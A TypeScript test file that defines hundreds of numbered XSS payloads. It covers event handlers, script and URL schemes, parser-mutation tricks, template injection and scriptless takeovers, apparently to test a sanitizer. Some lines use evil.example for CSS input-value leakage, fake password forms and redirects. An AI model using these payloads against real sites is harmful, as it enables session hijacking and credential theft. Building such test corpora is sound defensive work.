/**
 * Script injection vectors, one per line; a backslash at the end joins two lines. Each contains a
 * call that sets `parent.hit` to its number. In the page `parent` is the page; in a separate frame
 * the same line must throw.
 *
 * The groups: handlers, elements, addresses, encodings, foreign content, mutation by reparsing,
 * templates, styles, and page takeovers without any script. `HIT` is replaced by the call.
 */
const HIT = 'parent.hit=HERE';

const handlers = `
<img src=x onerror=HIT>
<img src=x onerror="HIT">
<img src='x' onerror='HIT' x>
<img/src=x/onerror=HIT>
<img	src=x	onerror	=	HIT>
<IMG SRC=x OnErRoR=HIT>
<img src="x" onerror="javascript:HIT">
<img src=x:x onerror=HIT//
<img src=x onerror=HIT
<img src onerror=HIT>
<img srcset=x onerror=HIT>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=HIT>
<image src=x onerror=HIT>
<image xlink:href=x onerror=HIT>
<audio src=x onerror=HIT>
<audio controls autoplay onloadstart=HIT src=x></audio>
<video src=x onerror=HIT></video>
<video><source onerror=HIT src=x></video>
<video poster=x onloadstart=HIT src=x></video>
<body onload=HIT>
<body onpageshow=HIT>
<body onresize=HIT onfocus=HIT onhashchange=HIT>
<body background="javascript:HIT">
<frameset onload=HIT>
<svg onload=HIT>
<svg/onload=HIT>
<svg onload=HIT//
<svg><svg onload=HIT>
<svg><animate onbegin=HIT attributeName=x dur=1s>
<svg><set onbegin=HIT attributeName=x>
<svg><animateTransform onbegin=HIT attributeName=transform>
<svg><animateMotion onbegin=HIT dur=1s path="M0 0">
<svg><image href=x onerror=HIT>
<svg><a><rect width=9 height=9 onmouseover=HIT></a></svg>
<details open ontoggle=HIT>x</details>
<details ontoggle=HIT open><summary>x
<dialog open oncancel=HIT onclose=HIT><form method=dialog><button autofocus>x</button></form>\
</dialog>
<input autofocus onfocus=HIT>
<input onblur=HIT autofocus><input autofocus>
<select autofocus onfocus=HIT></select>
<textarea autofocus onfocus=HIT></textarea>
<keygen autofocus onfocus=HIT>
<button autofocus onfocus=HIT>x</button>
<a autofocus tabindex=1 onfocus=HIT href=#>x</a>
<div tabindex=1 autofocus onfocus=HIT>x</div>
<div contenteditable autofocus onfocus=HIT>x</div>
<p id=x tabindex=1 onfocusin=HIT autofocus>x</p>
<marquee onstart=HIT>x</marquee>
<marquee loop=1 width=0 onfinish=HIT>x</marquee>
<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=HIT>x</b>
<b style="animation:k 1s" onanimationend=HIT onwebkitanimationstart=HIT>x</b>
<style>:target{color:red}</style><b style="transition:color 1s" ontransitionend=HIT id=t>x</b>
<div onscroll=HIT style="overflow:scroll;height:9px"><p style="height:99px"><a autofocus href=#>x\
</a></div>
<div onpointerover=HIT onmouseenter=HIT onwheel=HIT>x</div>
<iframe onload=HIT></iframe>
<iframe src=about:blank onload=HIT></iframe>
<object data=x onerror=HIT></object>
<object type=image/svg+xml data=x onload=HIT onerror=HIT></object>
<embed src=x onload=HIT onerror=HIT>
<link rel=stylesheet href=x onerror=HIT>
<link rel=stylesheet href="data:text/css," onload=HIT>
<style onload=HIT></style>
<style>@import x</style><style onerror=HIT>@import "x";</style>
<script src=x onerror=HIT></script>
<script src="data:text/javascript," onload=HIT></script>
<track src=x onerror=HIT><video><track default src=x onerror=HIT></video>
<div oncontentvisibilityautostatechange=HIT style="content-visibility:auto">x</div>
<button popovertarget=p onclick=HIT>x</button><div popover id=p onbeforetoggle=HIT ontoggle=HIT>x\
</div>
<form onsubmit=HIT onformdata=HIT><input type=submit autofocus></form>
<xss onafterscriptexecute=HIT><script>1</script></xss>
<x onclick=HIT>click</x>
<x oncopy=HIT oncut=HIT onpaste=HIT oncontextmenu=HIT contenteditable>x</x>
`;

const scripts = `
<script>HIT</script>
<SCRIPT>HIT</SCRIPT>
<script >HIT</script >
<script/x>HIT</script>
<script	x>HIT</script	x>
<scr<script>ipt>HIT</scr</script>ipt>
<<script>HIT//<</script>
<script>HIT
<script type=module>HIT</script>
<script type=text/javascript>HIT</script>
<script src="data:text/javascript,HIT"></script>
<script src=data:text/javascript;base64,cGFyZW50LmhpdD0x></script>
<script async defer src="data:,HIT"></script>
<script src="javascript:HIT"></script>
<script language=vbscript>HIT</script>
<script nomodule>HIT</script>
<script type=importmap>{"imports":{"x":"data:text/javascript,HIT"}}</script><script \
type=module>import "x"</script>
<script><!--
HIT
--></script>
<noscript><p title="</noscript><img src=x onerror=HIT>">
<svg><script>HIT</script></svg>
<svg><script href="data:text/javascript,HIT"></script></svg>
<svg><script xlink:href="data:text/javascript,HIT"/></svg>
<svg><script>&#112;arent.hit=HERE</script>
<math><script>HIT</script></math>
"><script>HIT</script>
'><script>HIT</script>
--></title></style></textarea></script><script>HIT</script>
</div></div></article><script>HIT</script>
]]><script>HIT</script>
\${HIT}{{HIT}}<%= HIT %>#{HIT}
{{constructor.constructor('HIT')()}}
{{$on.constructor('HIT')()}}
<div ng-app ng-csp><b ng-click="$event.view.hit=HERE" \
ng-init="constructor.constructor('HIT')()">{{1}}</b></div>
`;

const addresses = `
<a href="javascript:HIT" autofocus>x</a>
<a href=javascript:HIT>x</a>
<a href="JaVaScRiPt:HIT">x</a>
<a href=" javascript:HIT">x</a>
<a href="&#1;javascript:HIT">x</a>
<a href="java&#9;script:HIT">x</a>
<a href="java&#10;script:HIT">x</a>
<a href="java&#13;script:HIT">x</a>
<a href="java&Tab;script&colon;HIT">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;HIT">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;HIT">x</a>
<a href="&#0000106avascript:HIT">x</a>
<a href="javascript&#58;HIT">x</a>
<a href="\u0001javascript:HIT">x</a>
<a href="\u00a0javascript:HIT">x</a>
<a href="view-source:javascript:HIT">x</a>
<a href="vbscript:HIT">x</a>
<a href="data:text/html,<script>HIT</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=">x</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>">x</a>
<a href="feed:javascript:HIT">x</a>
<a href="javascript://x%0aHIT">x</a>
<a href="https://example.org" ping="javascript:HIT" download onclick=HIT>x</a>
<a xlink:href="javascript:HIT">x</a>
<svg><a href="javascript:HIT"><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:HIT"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:HIT" /><text y=9>x</text></a></svg>
<svg><a xlink:href=#><set attributeName=xlink:href to="javascript:HIT" /><text y=9>x</text></a>\
</svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image \
href='x' onerror='HIT'/></svg>#x"></use></svg>
<svg><foreignObject><iframe src="javascript:HIT"></iframe></foreignObject></svg>
<math href="javascript:HIT">x</math>
<math><mi xlink:href="javascript:HIT">x</mi></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:HIT">x</maction></math>
<img src="javascript:HIT">
<img lowsrc="javascript:HIT" dynsrc="javascript:HIT">
<iframe src="javascript:HIT"></iframe>
<iframe src="java&#10;script:HIT"></iframe>
<iframe src="data:text/html,<script>HIT</script>"></iframe>
<iframe srcdoc="<script>HIT</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>
<iframe srcdoc="<script>top.hit=HERE</script>" sandbox="allow-scripts allow-same-origin \
allow-top-navigation"></iframe>
<iframe src="//evil.example/x" name="parent" allow="camera *"></iframe>
<frame src="javascript:HIT">
<object data="javascript:HIT"></object>
<object data="data:text/html,<script>HIT</script>"></object>
<object><param name=src value="javascript:HIT"></object>
<embed src="javascript:HIT">
<embed src="data:text/html,<script>HIT</script>">
<applet code="javascript:HIT"></applet>
<portal src="javascript:HIT"></portal>
<form action="javascript:HIT"><input type=submit autofocus></form>
<form><button formaction="javascript:HIT">x</button></form>
<form id=f></form><button form=f formaction="javascript:HIT">x</button>
<isindex type=image src=1 onerror=HIT action="javascript:HIT">
<input type=image src=x onerror=HIT formaction="javascript:HIT">
<area href="javascript:HIT" shape=default><map name=m><area href="javascript:HIT"></map><img \
usemap=#m src=x>
<link rel=stylesheet href="javascript:HIT">
<link rel=import href="data:text/html,<script>HIT</script>">
<link rel=preload as=script href="data:text/javascript,HIT" onload=HIT>
<base href="javascript:HIT//"><a href=x>x</a>
<base href="//evil.example/">
<base target="_top"><a href="//evil.example">x</a>
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>HIT</script>">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>HIT</script>
<meta http-equiv=Set-Cookie content="evil=1">
<table background="javascript:HIT"><td background="javascript:HIT">x</table>
<blockquote cite="javascript:HIT">x</blockquote>
[x](javascript:HIT)
![x](javascript:HIT "x onerror=HIT")
[x](data:text/html,<script>HIT</script>)
<javascript:HIT>
`;

const parsing = `
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HIT&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=HIT>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>
<svg></p><style><a id="</style><img src=1 onerror=HIT>">
<svg><style><img src=x onerror=HIT></style></svg>
<svg><title><style><img src=x onerror=HIT></style></title></svg>
<svg><desc><noembed><style></noembed><img src=x onerror=HIT></style></desc></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style>\
</annotation-xml></math>
<math><annotation-xml><svg><style><img title="</style><img src=x onerror=HIT>">
<noscript><style></noscript><img src=x onerror=HIT>
<noembed><img title="</noembed><img src=x onerror=HIT>"></noembed>
<noframes><img title="</noframes><img src=x onerror=HIT>"></noframes>
<xmp><p title="</xmp><img src=x onerror=HIT>">
<textarea><p title="</textarea><img src=x onerror=HIT>">
<title><p title="</title><img src=x onerror=HIT>">
<plaintext><img src=x onerror=HIT>
<template><img src=x onerror=HIT></template>
<template shadowrootmode=open><img src=x onerror=HIT></template>
<div><template shadowrootmode="open"><slot></slot><script>HIT</script></template></div>
<select><template><img src=x onerror=HIT></template></select>
<select><style></select><img src=x onerror=HIT></style>
<option><style></option></select><img src=x onerror=HIT></style>
<table><tr><td><svg><desc><table><mglyph><style><img src=x onerror=HIT></style>
<p><svg><foreignObject><p><style><!--</style><img src=x onerror=HIT>--></p></foreignObject></svg>
<!--><img src=x onerror=HIT>-->
<!--[if gte IE 4]><script>HIT</script><![endif]-->
<!-- --!><img src=x onerror=HIT> -->
<![CDATA[><img src=x onerror=HIT>]]>
<svg><![CDATA[</svg><img src=x onerror=HIT>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:HIT"?><x/>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=HIT>">]>&y;
<img alt="\`><img src=x onerror=HIT>\`">
<img title="a\u0000b" src=x onerror\u0000=HIT>
<img src=x\u0000 onerror=HIT>
<im\u0000g src=x onerror=HIT>
<a title="</a><img src=x onerror=HIT>">x
<b "<script>HIT</script>">x</b>
<div id=1<img src=x onerror=HIT>
<a/href="javascript:HIT"/onclick=HIT>x
\u003cimg src=x onerror=HIT\u003e
&lt;img src=x onerror=HIT&gt;
&amp;lt;img src=x onerror=HIT&amp;gt;
\uff1cimg src=x onerror=HIT\uff1e
%3Cimg%20src=x%20onerror=HIT%3E
<img src=x one\u200brror=HIT onerror\u2028=HIT>
`;

const styles = `
<style>*{display:none!important}</style>
<style>@import "//evil.example/x.css";</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<b style="background:url(javascript:HIT)">x</b>
<b style="width:expression(HIT)">x</b>
<b style="-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)">x</b>
<div style="position:fixed;inset:0;z-index:99999;background:white">Your session is over. Sign in:\
</div>
<form action=//evil.example><input name=user><input type=password name=password></form>
<form id=body name=parentNode><input name=attributes><input name=nodeName><input id=children \
name=removeChild></form>
<a id=defaultView name=location href="//evil.example"></a><a id=hit name=hit href=x></a>
<img name=cookie><img name=getElementById><img id=currentScript>
<tiding-notebook note="2ABCDEFGH" server="//evil.example"></tiding-notebook>
<div is=tiding-notebook data-action=run part=x slot=y exportparts=z>x</div>
<object id=x classid="clsid:D27CDB6E"><param name=allowScriptAccess value=always></object>
<b class="dialog toast backdrop" role=alertdialog aria-modal=true>Enter your password</b>
\u001b]8;;javascript:HIT\u0007click\u001b]8;;\u0007
\u001b[31m<img src=x onerror=HIT>\u001b[0m
\u001b]0;HIT\u0007\u001b[8m<script>HIT</script>\u001b[28m
\u202e<img src=x onerror=HIT>
__proto__
constructor
javascript:HIT
"autofocus onfocus=HIT x="
' onmouseover=HIT style=position:fixed;inset:0 '
\` onload=HIT \`
%html <img src=x onerror=HIT>
%angular {{constructor.constructor('HIT')()}}<img src=x onerror=HIT>
`;

/**
 * The vectors, each with its own number in the call. Line ends within a vector are those needed by
 * its script.
 */
export const vectors: readonly string[] = [handlers, scripts, addresses, parsing, styles]
  .flatMap((block) => block.replace('<!--\nHIT\n-->', '<!--\u0085HIT\u0085-->').trim().split('\n'))
  .map((line, index) =>
    line
      .replaceAll('\u0085', '\n')
      .replaceAll('HIT', HIT)
      .replaceAll('HERE', String(index + 1)),
  );
